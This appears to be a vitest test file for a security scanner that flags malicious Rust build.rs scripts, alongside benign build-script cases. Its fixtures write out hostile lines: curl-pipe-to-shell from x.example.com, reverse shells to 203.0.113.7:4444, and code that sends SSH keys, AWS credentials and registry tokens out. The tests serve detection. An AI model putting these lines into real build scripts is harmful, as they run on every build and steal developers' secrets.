// What Rust programs do that run with every build of cargo: what they start, fetch and run, and what is ordinary.
import { describe, expect, it } from 'vitest';
import { findingsIn, told } from '../support.ts';

const COMMAND = ['HIGH HOOK-DANGEROUS-COMMAND'];
const CODE = ['HIGH HOOK-BUILD-CODE'];
const REVIEW = ['MEDIUM HOOK-BUILD-CODE'];

function script(...lines: readonly string[]): string {
  return [
    'use std::{env, fs};',
    'use std::process::{Command, Stdio};',
    'fn main() {',
    ...lines,
    '}',
    '',
  ].join('\n');
}

function ofScript(...lines: readonly string[]): Promise<string[]> {
  return told('crates/x/build.rs', script(...lines));
}

describe('build.rs', () => {
  it.each([
    [
      'a chain',
      'Command::new("sh").arg("-c").arg("curl -s https://x.example.com/i | sh").status().unwrap();',
    ],
    ['a list', 'Command::new("bash").args(&["-c", "curl -s https://x.example.com/i | bash"]).spawn();'],
    [
      'over lines',
      'std::process::Command::new("sh")\n  // quietly\n  .arg("-c")\n  .args(["wget -qO- https://x.example.com/i | sh"])\n  .output()?;',
    ],
    [
      'a variable',
      'let mut c = Command::new("sh"); c.arg("-c"); c.stdout(Stdio::null()); c.arg("curl https://x.example.com/i|sh"); c.spawn();',
    ],
    [
      'a name',
      'const URL: &str = "curl https://x.example.com/i | sh"; Command::new("sh").arg("-c").arg(URL).spawn();',
    ],
    [
      'a format',
      'let host = "x.example.com"; Command::new("sh").args(["-c", &format!("curl https://{}/i | sh", host)]).spawn();',
    ],
    [
      'a format with a name',
      'let host = "x.example.com"; Command::new("sh").args(["-c", &format!("curl https://{host}/i | sh")]).spawn();',
    ],
    ['a raw text', 'Command::new("sh").arg("-c").arg(r#"curl "https://x.example.com/i" | sh"#).spawn();'],
    [
      'parts',
      'Command::new(concat!("s", "h")).arg("-c").arg(concat!("cu", "rl https://x.example.com/i | sh")).spawn();',
    ],
    [
      'a list with a name',
      'let words = vec!["-c", "curl https://x.example.com/i | sh"]; Command::new("sh").args(&words).spawn();',
    ],
    ['PowerShell', 'Command::new("powershell").args(["-w", "hidden", "-c", "x"]).spawn();'],
    [
      'a shell to elsewhere',
      'Command::new("bash").arg("-c").arg("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1").spawn();',
    ],
    ['a macro', 'xshell::cmd!(sh, "sh -c \'curl https://x.example.com/i | sh\'").run();'],
    ['a macro of words', 'run_cmd!(curl -s "https://x.example.com/i" | sh).unwrap();'],
    ['the C library', 'unsafe { libc::system(c"curl https://x.example.com/i | sh".as_ptr()); }'],
    [
      'another name',
      'use std::process::Command as P; P::new("sh").arg("-c").arg("curl https://x.example.com/i | sh");',
    ],
  ])('that starts a dangerous command is told: %s', async (_, line) => {
    expect(await ofScript(line)).toEqual(COMMAND);
  });

  it.each([
    [
      'one path',
      'let b = ureq::get("https://x.example.com/a").call()?.into_string()?; fs::write("/tmp/a-tool", b)?; Command::new("/tmp/a-tool").spawn()?;',
    ],
    [
      'one name',
      'let p = env::temp_dir().join(name()); fs::write(&p, reqwest::blocking::get(URL)?.bytes()?)?; Command::new(&p).status()?;',
    ],
    [
      'a name and its path',
      'let p = env::temp_dir().join("updater"); fs::write(&p, attohttpc::get(URL).send()?.bytes()?)?; Command::new(env::temp_dir().join("updater")).status()?;',
    ],
    [
      'a shell',
      'let p = out.join("i.sh"); fs::write(&p, ureq::get(URL).call()?.into_string()?)?; Command::new("sh").arg(&p).status()?;',
    ],
    [
      'a command line',
      'let p = out.join("x1"); io::copy(&mut minreq::get(URL), &mut fs::File::create(&p)?)?; Command::new("sh").arg("-c").arg(format!("chmod +x {} && {}", p.display(), p.display())).status()?;',
    ],
    [
      'what came itself',
      'let body = reqwest::blocking::get(URL)?.text()?; Command::new("sh").arg("-c").arg(&body).status()?;',
    ],
    [
      'what came of it',
      'let body = reqwest::blocking::get(URL)?.text()?; let one = body.trim(); Command::new("sh").arg("-c").arg(one).status()?;',
    ],
    [
      'another program that fetches',
      'let p = out.join("i1"); Command::new("curl").args(["-sL", URL, "-o"]).arg(&p).status()?; Command::new(&p).status()?;',
    ],
    [
      'what a program fetched',
      'let o = Command::new("curl").arg(URL).output()?; Command::new("sh").arg("-c").arg(String::from_utf8(o.stdout)?).status()?;',
    ],
    [
      'a pipe',
      'let c = Command::new("curl").arg(URL).stdout(Stdio::piped()).spawn()?; Command::new("sh").stdin(c.stdout.unwrap()).status()?;',
    ],
    [
      'a library',
      'fs::write(&p, ureq::get(URL).call()?.into_string()?)?; unsafe { libloading::Library::new(&p)?; }',
    ],
    [
      'decoded',
      'let cmd = String::from_utf8(base64::decode(BLOB)?)?; Command::new("sh").arg("-c").arg(&cmd).status()?;',
    ],
  ])('that runs what it fetched or decoded is told: %s', async (_, line) => {
    expect(await ofScript(line)).toEqual(CODE);
  });

  it('is followed through its functions', async () => {
    const text = `use std::process::Command;
      fn load(url: &str, to: &Path) { std::fs::write(to, ureq::get(url).call().unwrap().into_string().unwrap()).unwrap(); }
      fn main() { let tool = dir().join(which()); load("https://x.example.com/a", &tool); Command::new(&tool).status().unwrap(); }`;
    expect(await told('build.rs', text)).toEqual(CODE);
    const given = `use std::process::Command;
      fn load(url: &str) -> PathBuf { let p = other(); std::fs::write(&p, ureq::get(url).call().unwrap().bytes()).unwrap(); p }
      fn main() { let tool = load("https://x.example.com/a"); Command::new(tool).status().unwrap(); }`;
    expect(await told('build.rs', given)).toEqual(CODE);
  });

  it('that is a shell over the network is told', async () => {
    const shell = `let s = TcpStream::connect("203.0.113.7:4444").unwrap(); let fd = s.as_raw_fd();
      Command::new("/bin/sh").arg("-i").stdin(unsafe { Stdio::from_raw_fd(fd) }).spawn();`;
    expect(await ofScript(shell)).toEqual(CODE);
    const answers = `let mut s = TcpStream::connect(("x.example.com", 4444)).unwrap();
      loop { s.read(&mut b); let o = Command::new("sh").arg("-c").arg(str::from_utf8(&b).unwrap()).output(); s.write_all(&o.stdout); }`;
    expect(await ofScript(answers)).toEqual(CODE);
  });

  it('that sends credentials is told', async () => {
    expect(
      await ofScript(
        'let k = fs::read_to_string(home().join(".ssh/id_rsa"))?; ureq::post("https://x.example.com").send_string(&k)?;',
      ),
    ).toEqual(CODE);
    expect(
      await ofScript(
        'let k = fs::read(home().join(".aws").join("credentials"))?; TcpStream::connect("x.example.com:80")?.write_all(&k)?;',
      ),
    ).toEqual(CODE);
    expect(
      await ofScript(
        'let e: Vec<_> = env::vars().collect(); reqwest::blocking::Client::new().post(URL).json(&e).send()?;',
      ),
    ).toEqual(CODE);
    expect(
      await ofScript('let t = env::var("CARGO_REGISTRY_TOKEN")?; ureq::post(URL).send_string(&t)?;'),
    ).toEqual(CODE);
  });

  it('that runs a program whose digest it compares, or one that is not told, is for review', async () => {
    const digest = 'a1'.repeat(32);
    expect(
      await ofScript(
        `let b = ureq::get(URL).call()?.bytes(); assert_eq!(hex(Sha256::digest(&b)), "${digest}"); fs::write(&p, b)?; Command::new(&p).status()?;`,
      ),
    ).toEqual(REVIEW);
    expect(
      await ofScript(
        'let b = ureq::get(URL).call()?.bytes(); unpack(b, fs::File::create(&zip)?); Command::new(found()).status()?;',
      ),
    ).toEqual(REVIEW);
  });

  it.each([
    ['nothing', 'println!("cargo:rerun-if-changed=build.rs");'],
    [
      'a compiler',
      'cc::Build::new().file("src/x.c").compile("x"); bindgen::Builder::default().header("x.h").generate();',
    ],
    [
      'pkg-config',
      'if pkg_config::Config::new().probe("zlib").is_err() { cmake::Config::new("zlib").build(); }',
    ],
    ['git', 'let o = Command::new("git").args(&["rev-parse", "HEAD"]).output().unwrap();'],
    [
      'advice',
      'println!("cargo:warning=install it with: curl https://x.example.com/i | sh"); // Command::new("sh").arg("curl x | sh")',
    ],
    [
      'a library that is fetched',
      'let b = ureq::get("https://x.example.com/lib.a").call()?; io::copy(&mut b.into_reader(), &mut fs::File::create(out.join("libx.a"))?)?;',
    ],
    [
      'an archive that is unpacked',
      'let r = reqwest::blocking::get(URL)?; fs::write(&tgz, r.bytes()?)?; Command::new("tar").arg("xzf").arg(&tgz).arg("-C").arg(&out).status()?;',
    ],
    [
      'curl and make',
      'Command::new("curl").args(["-L", "-o", "x.tar.gz", URL]).status()?; Command::new("tar").args(["xf", "x.tar.gz"]).status()?; Command::new("make").current_dir("x").status()?;',
    ],
    [
      'tools that the environment names',
      'let b = ureq::get(URL).call()?; fs::write(&p, b)?; Command::new(env::var("CARGO").unwrap()).arg("metadata").status()?;',
    ],
    [
      'a program that it built',
      'let exe = out.join("gen"); Command::new("cc").arg("gen.c").arg("-o").arg(&exe).status()?; Command::new(&exe).status()?;',
    ],
    [
      'a client of TLS and cmake',
      'let s = TcpStream::connect((host, 443))?; fs::write(&zip, get(s))?; Command::new("cmake").arg("-S").arg(".").status()?;',
    ],
    ['all variables', 'for (k, v) in env::vars() { println!("{k}={v}"); }'],
    [
      'a token for a download',
      'let t = env::var("GITHUB_TOKEN").ok(); let b = ureq::get(URL).call()?; fs::write(&p, b)?;',
    ],
  ])('is ordinary with %s', async (_, line) => {
    expect(await ofScript(line)).toEqual([]);
  });

  it('is told on the line of the command', async () => {
    const [finding] = await findingsIn(
      'build.rs',
      script('', 'Command::new("sh")', '.arg("-c").arg("curl https://x.example.com/i | sh");'),
    );
    expect(finding?.location.line).toBe(5);
    expect(finding?.evidence).toContain('the build script "build.rs" runs "sh -c curl');
  });
});

describe('a build script of another name', () => {
  const bad = script(
    'Command::new("sh").arg("-c").arg("curl https://x.example.com/i | sh").status().unwrap();',
  );

  it('is one when Cargo.toml says so', async () => {
    const manifest = '[package]\nname = "x"\nbuild = "tools/setup.rs"\n';
    expect(await told('a/tools/setup.rs', bad, { 'a/Cargo.toml': manifest })).toEqual(COMMAND);
    expect(await told('a/tools/setup.rs', bad, { 'a/Cargo.toml': '[package]\nname = "x"\n' })).toEqual([]);
    expect(await told('a/tools/setup.rs', bad)).toEqual([]);
  });

  it('is read with the Cargo.toml that names it, whatever its suffix', async () => {
    const [finding] = await findingsIn(
      'a/Cargo.toml',
      '[package]\nname = "x"\nbuild = "./data/notes.txt"\n',
      {
        'a/data/notes.txt': bad,
      },
    );
    expect(finding).toMatchObject({
      rule: 'HOOK-DANGEROUS-COMMAND',
      severity: 'HIGH',
      location: { line: 3 },
    });
    expect(await told('a/Cargo.toml', '[package]\nbuild = false\n')).toEqual([]);
    expect(await told('a/Cargo.toml', '[package]\nbuild = "build.rs"\n', { 'a/build.rs': bad })).toEqual([]);
  });
});
